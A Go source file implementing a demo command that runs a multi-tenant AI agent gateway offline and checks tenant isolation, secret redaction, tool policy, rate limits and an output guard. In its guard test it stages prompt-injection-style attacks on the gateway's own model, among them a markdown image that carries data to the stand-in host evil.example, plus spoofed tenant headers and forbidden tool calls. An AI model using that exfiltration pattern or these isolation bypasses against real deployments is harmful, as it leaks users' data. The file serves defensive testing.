package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/spf13/cobra"

	"github.com/bulkhead-ai/bulkhead/internal/audit"
	"github.com/bulkhead-ai/bulkhead/internal/config"
	"github.com/bulkhead-ai/bulkhead/internal/server"
	"github.com/bulkhead-ai/bulkhead/internal/store"
)

func newDemoCmd(getenv func(string) string, stdout, stderr io.Writer) *cobra.Command {
	var dataDir string
	var verbose bool
	cmd := &cobra.Command{
		Use:   "demo",
		Short: "Run two tenants offline and show that neither can reach the other",
		Args:  cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			if dataDir == "" {
				dir, err := os.MkdirTemp("", "bulkhead-demo-")
				if err != nil {
					return fmt.Errorf("create demo data directory: %w", err)
				}
				defer os.RemoveAll(dir)
				dataDir = dir
			}
			logger := slog.New(slog.DiscardHandler)
			if verbose {
				logger = slog.New(slog.NewTextHandler(stderr, nil))
			}
			return runDemo(cmd.Context(), dataDir, getenv, stdout, logger)
		},
	}
	cmd.Flags().StringVar(&dataDir, "data", "", "data directory (default: a temporary one, removed afterwards)")
	cmd.Flags().BoolVarP(&verbose, "verbose", "v", false, "print server logs")
	return cmd
}

// runDemo starts a real server on a loopback port and drives it over HTTP.
func runDemo(ctx context.Context, dataDir string, getenv func(string) string, out io.Writer, logger *slog.Logger) (err error) {
	cfg, err := config.Parse(nil)
	if err != nil {
		return err
	}
	var raw [24]byte
	if _, err := rand.Read(raw[:]); err != nil {
		return fmt.Errorf("generate demo admin token: %w", err)
	}
	adminTok := base64.RawURLEncoding.EncodeToString(raw[:])
	key, err := masterKey(dataDir, getenv, io.Discard)
	if err != nil {
		return err
	}
	inst, err := server.Open(ctx, server.Options{DataDir: dataDir, Config: cfg, AdminToken: adminTok, MasterKey: key,
		Getenv: getenv, Logger: logger})
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, inst.Close()) }()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return fmt.Errorf("listen: %w", err)
	}
	srv := &http.Server{Handler: inst.Handler(), ReadHeaderTimeout: 10 * time.Second}
	go srv.Serve(ln) //nolint:errcheck // Serve returns ErrServerClosed after Shutdown below.
	defer srv.Shutdown(context.WithoutCancel(ctx))

	crm, err := startDemoCRM()
	if err != nil {
		return err
	}
	defer crm.srv.Shutdown(context.WithoutCancel(ctx))

	d := &demo{ctx: ctx, out: out, base: "http://" + ln.Addr().String(), admin: adminTok,
		http: &http.Client{Timeout: 30 * time.Second}, crm: crm}
	fmt.Fprintf(out, "Bulkhead demo: one server at %s, two tenants, offline model\n\n", d.base)
	d.script()
	if d.failed > 0 {
		return fmt.Errorf("demo: %d of %d checks failed", d.failed, d.checks)
	}
	fmt.Fprintf(out, "\nAll %d checks passed.\n", d.checks)
	return nil
}

type demo struct {
	crm    *demoCRM
	ctx    context.Context
	out    io.Writer
	base   string
	admin  string
	http   *http.Client
	checks int
	failed int
}

var demoTenants = []struct{ id, name, prompt, secretFact string }{
	{"acme", "Acme Rockets", "You are Acme's support agent. Acme sells rockets.", "my order number is A-1001"},
	{"globex", "Globex Corp", "You are Globex's assistant. Globex sells magnets.", "my order number is G-2002"},
}

func (d *demo) script() {
	keys := map[string]string{}
	d.section("1. The operator creates two tenants and an API key for each")
	for _, t := range demoTenants {
		status, _ := d.call(http.MethodPost, "/admin/v1/tenants", d.admin, nil,
			map[string]any{"id": t.id, "name": t.name, "system_prompt": t.prompt})
		d.check(status == http.StatusCreated, "created tenant %s (%d)", t.id, status)
		status, body := d.call(http.MethodPost, "/admin/v1/tenants/"+t.id+"/keys", d.admin, nil, nil)
		var k struct{ Key string }
		json.Unmarshal(body, &k)
		keys[t.id] = k.Key
		d.check(status == http.StatusCreated && strings.HasPrefix(k.Key, "bk_"), "issued a key for %s: %s…", t.id, truncate(k.Key, 12))
	}

	d.section("2. Each tenant talks to the shared agent as end user \"alice\", session \"s1\"")
	for _, t := range demoTenants {
		other := otherTenant(t.id)
		d.chat(keys[t.id], "s1", "Hello, "+t.secretFact+".", nil, nil)
		reply := d.chat(keys[t.id], "s1", "What did I tell you?", nil, nil)
		fmt.Fprintf(d.out, "   %s ← %s\n", t.id, reply)
		d.check(strings.Contains(reply, t.prompt), "%s's answer carries %s's own system prompt", t.id, t.id)
		d.check(strings.Contains(reply, t.secretFact), "%s's answer remembers %s's own history", t.id, t.id)
		d.check(!strings.Contains(reply, other.prompt) && !strings.Contains(reply, other.secretFact),
			"%s's answer holds nothing of %s", t.id, other.id)
	}

	d.section("3. acme tries to reach globex's data")
	globex := demoTenants[1]
	for _, try := range []struct {
		what    string
		headers map[string]string
		extra   map[string]any
	}{
		{"naming globex's session id \"s1\"", nil, nil},
		{"with header X-Tenant-Id: globex", map[string]string{"X-Tenant-Id": "globex"}, nil},
		{`with "tenant": "globex" in the request's metadata`, nil, map[string]any{"metadata": map[string]any{"tenant": "globex", "tenant_id": "globex"}}},
	} {
		reply := d.chat(keys["acme"], "s1", "/echo", try.headers, try.extra)
		d.check(reply != "" && !strings.Contains(reply, globex.secretFact) && !strings.Contains(reply, globex.prompt),
			"acme %s sees only acme's context", try.what)
	}
	status, _ := d.call(http.MethodPost, "/v1/chat/completions", keys["acme"], nil,
		map[string]any{"tenant": "globex", "messages": []map[string]string{{"role": "user", "content": "hi"}}})
	d.check(status == http.StatusBadRequest, `acme with "tenant": "globex" in the body is refused: an unknown field is never ignored (%d)`, status)
	status, _ = d.call(http.MethodPost, "/v1/chat/completions", keys["acme"], nil,
		map[string]any{"model": "globex", "messages": []map[string]string{{"role": "user", "content": "hi"}}})
	d.check(status == http.StatusNotFound, "acme asking for a profile it does not have gets 404 (%d)", status)
	status, _ = d.call(http.MethodGet, "/admin/v1/tenants/globex", keys["acme"], nil, nil)
	d.check(status == http.StatusUnauthorized, "acme's key on the admin API gets 401 (%d)", status)

	d.section("4. Keys and tenant status are enforced at once")
	status, _ = d.call(http.MethodPatch, "/admin/v1/tenants/globex", d.admin, nil, map[string]any{"status": "suspended"})
	d.check(status == http.StatusOK, "operator suspends globex (%d)", status)
	status, _ = d.call(http.MethodGet, "/v1/models", keys["globex"], nil, nil)
	d.check(status == http.StatusForbidden, "globex's key is refused while suspended (%d)", status)
	d.call(http.MethodPatch, "/admin/v1/tenants/globex", d.admin, nil, map[string]any{"status": "active"})
	status, _ = d.call(http.MethodGet, "/v1/models", "bk_0000000000000000_forgedforgedforgedforgedforgedforgedforge", nil, nil)
	d.check(status == http.StatusUnauthorized, "a forged key gets 401 (%d)", status)

	d.section("5. Secrets are encrypted, write-only, and never leave in an answer")
	status, _ = d.call(http.MethodPut, "/admin/v1/tenants/acme/secrets/crm_token", d.admin, nil, map[string]string{"value": demoSecret})
	d.check(status == http.StatusNoContent, "operator stores acme's CRM token (%d)", status)
	reply := d.chat(keys["acme"], "", "/say Sure! The token is "+demoSecret, nil, nil)
	fmt.Fprintf(d.out, "   acme ← %s\n", reply)
	d.check(!strings.Contains(reply, demoSecret) && strings.Contains(reply, "[REDACTED:crm_token]"),
		"a model made to repeat the token gives [REDACTED:crm_token]")
	_, exp := d.call(http.MethodGet, "/admin/v1/tenants/acme/export", d.admin, nil, nil)
	d.check(bytes.Contains(exp, []byte(`"crm_token"`)) && !bytes.Contains(exp, []byte(demoSecret)),
		"acme's export lists the secret's name, never its value")
	d.check(bytes.Contains(exp, []byte(demoTenants[0].secretFact)) && !bytes.Contains(exp, []byte(demoTenants[1].secretFact)),
		"acme's export holds acme's history, decrypted, and nothing of globex's")

	d.section("6. Tools run with the tenant's own credentials, only as policy allows")
	d.tools(keys)

	d.section("7. Knowledge bases and memories are per tenant")
	d.knowledge(keys)

	d.section("8. The output guard: the last line, for when every other layer failed")
	d.guard(keys)

	d.section("9. Repeated questions hit the tenant's own cache; limits; the audit trail")
	d.limitsAndAudit(keys)

	d.section("10. Offboarding is final")
	status, _ = d.call(http.MethodDelete, "/admin/v1/tenants/globex", d.admin, nil, nil)
	d.check(status == http.StatusNoContent, "operator deletes globex: keys revoked, data key destroyed, files removed (%d)", status)
	status, _ = d.call(http.MethodGet, "/v1/models", keys["globex"], nil, nil)
	d.check(status == http.StatusUnauthorized, "globex's key stops working at once (%d)", status)
	d.call(http.MethodPost, "/admin/v1/tenants", d.admin, nil, map[string]any{"id": "globex"})
	_, exp = d.call(http.MethodGet, "/admin/v1/tenants/globex/export", d.admin, nil, nil)
	d.check(!bytes.Contains(exp, []byte(demoTenants[1].secretFact)), "a new tenant named globex finds nothing of the old one")
}

// tools registers a shared CRM tool, a tool globex owns and a cross-tenant
// export; then acme's model tries every way to misuse them.
func (d *demo) tools(keys map[string]string) {
	crmTool := map[string]any{"name": "crm_lookup", "description": "Look up a customer", "scope": "tenant",
		"parameters": json.RawMessage(`{"type":"object","properties":{"customer":{"type":"string"},"tenant_id":{"type":"string"}},"required":["customer"]}`),
		"bound":      map[string]string{"tenant_id": "tenant.id"},
		"http": map[string]any{"method": "POST", "url": d.crm.url + "/lookup",
			"headers": map[string]string{"Authorization": "Bearer {{secret.crm_token}}"}}}
	for _, def := range []map[string]any{crmTool,
		{"name": "globex_notes", "description": "Globex's private notes", "scope": "tenant", "owner": "globex",
			"http": map[string]any{"method": "GET", "url": d.crm.url + "/notes"}},
		{"name": "export_all_tenants", "description": "Export every tenant's data", "scope": "cross_tenant",
			"http": map[string]any{"method": "GET", "url": d.crm.url + "/export"}},
	} {
		status, body := d.call(http.MethodPost, "/admin/v1/tools", d.admin, nil, def)
		if status != http.StatusCreated {
			fmt.Fprintf(d.out, "   %s\n", truncate(string(body), 200))
		}
		d.check(status == http.StatusCreated, "operator registers tool %s, scope %s (%d)", def["name"], def["scope"], status)
	}
	d.call(http.MethodPatch, "/admin/v1/tenants/acme", d.admin, nil, map[string]any{"tools": []string{"crm_lookup", "export_all_tenants"}})
	d.call(http.MethodPatch, "/admin/v1/tenants/globex", d.admin, nil, map[string]any{"tools": []string{"crm_lookup", "globex_notes"}})
	d.call(http.MethodPut, "/admin/v1/tenants/globex/secrets/crm_token", d.admin, nil, map[string]string{"value": "globex-crm-51c0ffee77aa"})
	// acme's own policy: no lookups of the customer "vip-1".
	d.callRaw(http.MethodPut, "/admin/v1/tenants/acme/policy", d.admin,
		`@id("no-vip") forbid (principal, action == Action::"call_tool", resource == Tool::"crm_lookup") when { context.customer == "vip-1" };`)

	before := len(d.crm.requests())
	reply := d.chat(keys["acme"], "", strings.Join([]string{
		`/call globex_notes {}`,
		`/call export_all_tenants {}`,
		`/call crm_lookup {"customer":"c-42","tenant_id":"globex"}`,
		`/call crm_lookup {"customer":"vip-1"}`,
		`/call crm_lookup {"customer":"c-42"}`,
	}, "\n"), nil, nil)
	for _, line := range strings.Split(strings.TrimSpace(reply), "\n") {
		fmt.Fprintf(d.out, "   acme ← %s\n", truncate(line, 150))
	}
	results := map[string]string{}
	for _, line := range strings.Split(reply, "\n") {
		if id, rest, ok := strings.Cut(line, ": "); ok {
			results[id] = rest
		}
	}
	d.check(strings.Contains(results["call_1"], "not available"), "acme's model calling globex's own tool is refused")
	d.check(strings.Contains(results["call_2"], "not available"), "acme's model calling the cross-tenant export is refused (global forbid)")
	d.check(strings.Contains(results["call_3"], "refused"), "acme's model passing tenant_id: globex is refused")
	d.check(strings.Contains(results["call_4"], "tenant/no-vip"), "acme's own policy forbids looking up vip-1")
	d.check(strings.Contains(results["call_5"], `"tenant_id":"acme"`) && strings.Contains(results["call_5"], "[REDACTED:crm_token]"),
		"the legitimate lookup runs for acme, and the token the CRM echoed back is redacted")
	reqs := d.crm.requests()[before:]
	d.check(len(reqs) == 1 && reqs[0].auth == "Bearer "+demoSecret && reqs[0].tenant == "acme",
		"the CRM received exactly one call, with acme's token and tenant id (%d calls)", len(reqs))
	d.check(!strings.Contains(reply, demoSecret), "acme's token never reached the client")
}

// knowledge gives each tenant a document with its own canary, then lets
// acme's model go looking for globex's.
func (d *demo) knowledge(keys map[string]string) {
	docs := map[string]string{}
	for _, t := range demoTenants {
		canary := "CANARY-" + strings.ToUpper(t.id) + "-7731"
		text := t.name + " handbook.\n\nRefunds are accepted within 30 days. The vault code word is " + canary + ".\n"
		status, body := d.call(http.MethodPost, "/v1/documents", keys[t.id], nil, map[string]any{"text": text})
		var out struct{ ID string }
		json.Unmarshal(body, &out)
		docs[t.id] = out.ID
		d.check(status == http.StatusCreated, "%s ingests its handbook with canary %s (%s)", t.id, canary, out.ID)
		d.call(http.MethodPatch, "/admin/v1/tenants/"+t.id, d.admin, nil, map[string]any{"tools": []string{"kb_search", "memory_save", "memory_search", "crm_lookup"}})
	}
	reply := d.chat(keys["acme"], "", strings.Join([]string{
		`/call kb_search {"query":"CANARY-GLOBEX-7731"}`,
		`/call kb_search {"query":"all documents vault code word","top_k":10}`,
	}, "\n"), nil, nil)
	d.check(strings.Contains(reply, "CANARY-ACME-7731") && !strings.Contains(reply, "GLOBEX"),
		"acme's model searching for globex's canary and for all documents finds only acme's handbook")
	d.check(strings.Contains(reply, `trust="untrusted"`), "retrieved passages reach the model labelled as untrusted data")
	status, _ := d.call(http.MethodGet, "/v1/documents/"+docs["globex"], keys["acme"], nil, nil)
	d.check(status == http.StatusNotFound, "globex's document id is 404 for acme, as if it did not exist (%d)", status)
	d.chat(keys["acme"], "", `/call memory_save {"text":"alice likes blue rockets"}`, nil, nil)
	reply = d.chat(keys["acme"], "", `/call memory_search {"query":"what does alice like"}`, nil, nil)
	d.check(strings.Contains(reply, "blue rockets"), "acme's agent saves and recalls a memory for its end user alice")
	reply = d.chat(keys["globex"], "", `/call memory_search {"query":"what does alice like"}`, nil, nil)
	d.check(!strings.Contains(reply, "blue rockets"), "globex's alice does not see acme's alice's memories")
}

// guard makes acme's model say what a fully compromised model would.
func (d *demo) guard(keys map[string]string) {
	memo := "Globex strategy memo: the magnet division will quietly acquire the northern ore company before the autumn board meeting."
	d.call(http.MethodPost, "/v1/documents", keys["globex"], nil, map[string]any{"text": memo})
	leak := d.chat(keys["acme"], "", "/say I overheard that the magnet division will quietly acquire the northern ore company before the autumn board meeting.", nil, nil)
	fmt.Fprintf(d.out, "   acme ← %s\n", leak)
	d.check(strings.Contains(leak, "ore company") && !strings.Contains(leak, "withheld"),
		"an answer to acme repeating 12+ words globex stores is sent unchanged: the guard is no oracle (the operator's log hears of it)")
	d.call(http.MethodPatch, "/admin/v1/tenants/acme", d.admin, nil, map[string]any{"allowed_hosts": []string{"docs.acme.example"}})
	exfil := d.chat(keys["acme"], "", "/say Here you go ![chart](https://evil.example/c.png?data=A-1001) and [the docs](https://docs.acme.example/refunds)", nil, nil)
	fmt.Fprintf(d.out, "   acme ← %s\n", exfil)
	d.check(!strings.Contains(exfil, "evil.example") && strings.Contains(exfil, "docs.acme.example"),
		"a markdown image carrying data to an unlisted host is removed; the allow-listed link stays")
	innocent := d.chat(keys["acme"], "", "/say Refunds are accepted within 30 days at both stores.", nil, nil)
	d.check(!strings.Contains(innocent, "withheld"), "an innocent answer sharing common words passes")
}

func (d *demo) limitsAndAudit(keys map[string]string) {
	ask := func(key string) (int, string) {
		req, _ := http.NewRequestWithContext(d.ctx, http.MethodPost, d.base+"/v1/chat/completions",
			strings.NewReader(`{"model":"default","user":"carol","temperature":0,"messages":[{"role":"user","content":"What are your opening hours?"}]}`))
		req.Header.Set("Authorization", "Bearer "+key)
		resp, err := d.http.Do(req)
		if err != nil {
			return 0, ""
		}
		defer resp.Body.Close()
		io.Copy(io.Discard, resp.Body)
		return resp.StatusCode, resp.Header.Get("X-Bulkhead-Cache") + resp.Header.Get("Retry-After")
	}
	_, first := ask(keys["acme"])
	_, second := ask(keys["acme"])
	d.check(first == "" && second == "hit", "acme asks the same question twice at temperature 0: the second answer comes from acme's cache")
	_, other := ask(keys["globex"])
	d.check(other == "", "globex asks the identical question: answered fresh, never from acme's cache")

	d.call(http.MethodPost, "/admin/v1/tenants", d.admin, nil, map[string]any{"id": "initech", "limits": map[string]int{"requests_per_minute": 1}})
	_, body := d.call(http.MethodPost, "/admin/v1/tenants/initech/keys", d.admin, nil, nil)
	var k struct{ Key string }
	json.Unmarshal(body, &k)
	ask(k.Key)
	status, retry := ask(k.Key)
	d.check(status == http.StatusTooManyRequests && retry != "", "initech (1 request/minute) gets 429 with Retry-After: %ss on its second request", retry)
	status, _ = ask(keys["acme"])
	d.check(status == http.StatusOK, "acme is unaffected by initech's limit")

	_, body = d.call(http.MethodGet, "/v1/audit", keys["acme"], nil, nil)
	var log struct{ Data []store.AuditRecord }
	json.Unmarshal(body, &log)
	err := audit.Verify(log.Data)
	types := map[string]int{}
	for _, r := range log.Data {
		types[r.Type]++
	}
	d.check(err == nil && types["tool.call"] > 0 && types["cache.hit"] > 0 && types["guard.rewrite"] > 0,
		"acme's audit log verifies as a hash chain: %d records (%d tool calls, %d guard rewrites, %d cache hits, %d secret changes)",
		len(log.Data), types["tool.call"], types["guard.rewrite"], types["cache.hit"], types["secret.set"])
}

// callRaw sends a raw text body.
func (d *demo) callRaw(method, path, token, body string) (int, []byte) {
	req, err := http.NewRequestWithContext(d.ctx, method, d.base+path, strings.NewReader(body))
	if err != nil {
		return 0, []byte(err.Error())
	}
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := d.http.Do(req)
	if err != nil {
		return 0, []byte(err.Error())
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, b
}

// demoCRM is a stand-in for a tenant-facing CRM API: it records each call and
// answers with the customer, the tenant and (carelessly) the token it got.
type demoCRM struct {
	srv  *http.Server
	url  string
	mu   sync.Mutex
	seen []demoCRMRequest
}

type demoCRMRequest struct{ auth, tenant string }

func startDemoCRM() (*demoCRM, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("listen: %w", err)
	}
	c := &demoCRM{url: "http://" + ln.Addr().String()}
	c.srv = &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body struct {
			Customer string `json:"customer"`
			TenantID string `json:"tenant_id"`
		}
		json.NewDecoder(io.LimitReader(r.Body, 1<<20)).Decode(&body)
		c.mu.Lock()
		c.seen = append(c.seen, demoCRMRequest{auth: r.Header.Get("Authorization"), tenant: body.TenantID})
		c.mu.Unlock()
		json.NewEncoder(w).Encode(map[string]string{"customer": body.Customer, "tenant_id": body.TenantID,
			"status": "gold", "debug_auth": r.Header.Get("Authorization")})
	})}
	go c.srv.Serve(ln) //nolint:errcheck // Serve returns ErrServerClosed after Shutdown.
	return c, nil
}

func (c *demoCRM) requests() []demoCRMRequest {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]demoCRMRequest(nil), c.seen...)
}

// demoSecret is acme's CRM token in the demo.
const demoSecret = "acme-crm-7f3e9a61c2d54b08"

func otherTenant(id string) struct{ id, name, prompt, secretFact string } {
	if id == demoTenants[0].id {
		return demoTenants[1]
	}
	return demoTenants[0]
}

func (d *demo) section(title string) { fmt.Fprintf(d.out, "\n%s\n", title) }

func (d *demo) check(ok bool, format string, args ...any) {
	d.checks++
	mark := "✓"
	if !ok {
		d.failed++
		mark = "✗ FAILED:"
	}
	fmt.Fprintf(d.out, "   %s %s\n", mark, fmt.Sprintf(format, args...))
}

// chat sends one user message and returns the assistant's answer.
func (d *demo) chat(key, session, text string, headers map[string]string, extra map[string]any) string {
	body := map[string]any{"model": "default", "user": "alice",
		"messages": []map[string]string{{"role": "user", "content": text}}}
	for k, v := range extra {
		body[k] = v
	}
	h := map[string]string{"X-Session-Id": session}
	for k, v := range headers {
		h[k] = v
	}
	status, b := d.call(http.MethodPost, "/v1/chat/completions", key, h, body)
	var resp struct {
		Choices []struct {
			Message struct{ Content string }
		}
	}
	if status != http.StatusOK || json.Unmarshal(b, &resp) != nil || len(resp.Choices) == 0 {
		d.check(false, "chat request failed with status %d: %s", status, truncate(string(b), 200))
		return ""
	}
	return resp.Choices[0].Message.Content
}

func (d *demo) call(method, path, token string, headers map[string]string, body any) (int, []byte) {
	var rd io.Reader
	if body != nil {
		b, _ := json.Marshal(body)
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequestWithContext(d.ctx, method, d.base+path, rd)
	if err != nil {
		return 0, []byte(err.Error())
	}
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Content-Type", "application/json")
	for k, v := range headers {
		req.Header.Set(k, v)
	}
	resp, err := d.http.Do(req)
	if err != nil {
		return 0, []byte(err.Error())
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil && !errors.Is(err, io.EOF) {
		return resp.StatusCode, []byte(err.Error())
	}
	return resp.StatusCode, b
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n]
}
